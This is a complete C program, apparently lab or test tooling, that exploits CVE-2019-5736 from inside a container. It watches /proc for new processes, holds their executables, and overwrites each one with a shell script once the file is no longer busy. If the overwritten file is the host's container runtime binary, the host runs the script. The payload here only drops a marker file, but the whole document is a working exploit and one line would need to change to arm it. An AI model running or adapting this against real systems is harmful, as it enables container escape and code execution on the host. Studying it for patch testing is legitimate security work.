/* CVE-2019-5736 from inside a container: hold /proc/PID/exe of every other
 * process that appears (O_PATH), and once nothing runs that file any more
 * (no ETXTBSY), reopen it for writing through /proc/self/fd/N and replace it
 * with a shell script. If that file is the user's runtime binary, the next
 * command they type runs the script on the host.
 *
 * usage: exe_grab SECONDS
 * Prints "ready", then one line per event, then "done":
 *   exe PID DEV INO      held /proc/PID/exe (st_dev, st_ino of the file)
 *   wrote DEV INO        replaced that file with the payload
 *   refused DEV INO ERR  could not open it for writing (errno name)
 * It ends after SECONDS, or earlier once every file it holds was written or
 * refused. The container's own /bin/busybox and this program are left
 * alone. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 256

static const char payload[] =
    "#!/bin/sh\necho pwned > \"$HOME/pwned-by-container\"\n";

struct held {
    int fd;
    dev_t dev;
    ino_t ino;
    int settled;
};

static struct held held[MAX];
static int nheld;
static int seen_pid[65536];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int is_known(dev_t dev, ino_t ino) {
    for (int i = 0; i < nheld; i++)
        if (held[i].dev == dev && held[i].ino == ino)
            return 1;
    return 0;
}

int main(int argc, char **argv) {
    double secs = argc > 1 ? atof(argv[1]) : 10;
    struct stat self, bb;
    stat("/proc/self/exe", &self);
    if (stat("/bin/busybox", &bb) != 0)
        memset(&bb, 0, sizeof bb);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("ready\n");
    pid_t me = getpid();
    double end = now() + secs;
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= 65536 || seen_pid[pid])
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue; /* not dumpable (yet), or gone: ask again */
            struct stat st;
            if (fstat(fd, &st) != 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino) ||
                is_known(st.st_dev, st.st_ino) || nheld == MAX) {
                close(fd);
                continue;
            }
            seen_pid[pid] = 1;
            held[nheld++] = (struct held){fd, st.st_dev, st.st_ino, 0};
            printf("exe %d %lu %lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        }
        if (d)
            closedir(d);
        int open_left = 0;
        for (int i = 0; i < nheld; i++) {
            if (held[i].settled)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
            if (w < 0 && errno == ETXTBSY) {
                open_left++;
                continue;
            }
            held[i].settled = 1;
            if (w < 0) {
                printf("refused %lu %lu %s\n", (unsigned long)held[i].dev,
                       (unsigned long)held[i].ino, strerrorname_np(errno));
                continue;
            }
            ssize_t n = write(w, payload, sizeof payload - 1);
            close(w);
            if (n == (ssize_t)sizeof payload - 1)
                printf("wrote %lu %lu\n", (unsigned long)held[i].dev, (unsigned long)held[i].ino);
            else
                printf("refused %lu %lu write:%s\n", (unsigned long)held[i].dev,
                       (unsigned long)held[i].ino, strerrorname_np(errno));
        }
        if (nheld > 0 && open_left == 0)
            break;
        if (nheld == 0)
            continue; /* a new process may live only microseconds: look again at once */
        usleep(200);
    }
    printf("done\n");
    return 0;
}
